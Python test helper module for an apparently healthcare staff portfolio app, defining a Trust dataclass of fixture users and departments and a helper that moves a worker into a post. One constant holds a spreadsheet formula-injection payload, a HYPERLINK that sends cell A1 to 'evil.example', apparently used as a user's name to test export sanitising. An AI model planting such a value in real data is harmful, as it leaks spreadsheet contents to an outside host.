"""The two departments of the oversight tests (built by the `trust` fixture of
tests/oversight/conftest.py), and moving a worker into a post."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass

from sqlalchemy.orm import Session

from portfolio.core.roles import JobRole
from portfolio.frameworks.models import Post
from portfolio.people import services as people
from portfolio.people.models import Department, Organisation, User
from tests import factories

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


@dataclass
class Trust:
    org: Organisation
    ward: Department
    other: Department
    post: Post
    educator: User  # reach: ward A
    whole_educator: User  # reach: the whole trust
    supervisor: User
    admin: User
    morgan: User
    alex: User
    formula: User
    outsider: User


def move_to_post(session: Session, worker: User, post: Post, department: Department) -> None:
    people.record_appointment(
        factories.auditor(session),
        worker,
        people.AppointmentDetails(
            effective_from=dt.date(2025, 1, 1),
            job_role=JobRole.SCSW,
            trainee=False,
            afc_band="3",
            department_id=department.id,
            started_in_post_on=dt.date(2024, 1, 1),
            post_id=post.id,
        ),
    )
